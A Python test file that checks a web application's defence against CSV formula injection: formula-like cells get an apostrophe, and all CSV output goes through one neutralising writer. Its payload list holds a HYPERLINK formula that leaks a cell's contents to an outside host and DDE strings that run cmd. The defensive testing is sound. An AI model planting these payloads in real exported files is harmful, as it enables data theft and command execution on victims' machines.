"""Formula injection (OWASP "CSV injection"): one rule, `missing.web.spreadsheet.neutralise`, and one
writer every CSV goes through. The downloads themselves are tested in
tests/interviews/test_csv_injection.py."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from interviews.returns.ssda903 import csv_lines
from missing.web.spreadsheet import csv_writer, neutralise

ROOT = Path(__file__).resolve().parent.parent.parent

PAYLOADS = [
    '=HYPERLINK("http://x.io/?"&A1,"go")',  # short: council ids are 40 characters
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_an_apostrophe(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-3", "+44", "-1.5", "12", "E-34", "Town centre", "", 7, -7, None]
)
def test_plain_values_pass_unchanged(value: object) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_csv_writer_and_csv_lines_write_it_inert(payload: str) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(["E-1", payload, 3])
    body = "".join(csv_lines(["a", "b"], [[payload, "x"]]))
    for text, index in ((out.getvalue(), 1), (body, 0)):
        rows = list(csv.reader(io.StringIO(text)))
        data = rows[-1]
        assert data[index] == "'" + payload


def _csv_writer_calls(path: Path) -> list[int]:
    tree = ast.parse(path.read_text(), filename=str(path))
    return [
        node.lineno
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
        and node.attr in {"writer", "DictWriter"}
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    ]


APP_FILES = sorted(
    path
    for app in ("missing", "interviews", "notifications")
    for path in (ROOT / app).rglob("*.py")
    if path != ROOT / "missing" / "web" / "spreadsheet.py"
)


@pytest.mark.parametrize("path", APP_FILES, ids=lambda p: str(p.relative_to(ROOT)))
def test_no_csv_is_written_past_the_neutralising_writer(path: Path) -> None:
    assert _csv_writer_calls(path) == [], "use missing.web.spreadsheet.csv_writer"


def test_the_check_sees_a_raw_writer(tmp_path: Path) -> None:
    sample = tmp_path / "sample.py"
    sample.write_text("import csv\nw = csv.writer(out)\n")
    assert _csv_writer_calls(sample) == [2]
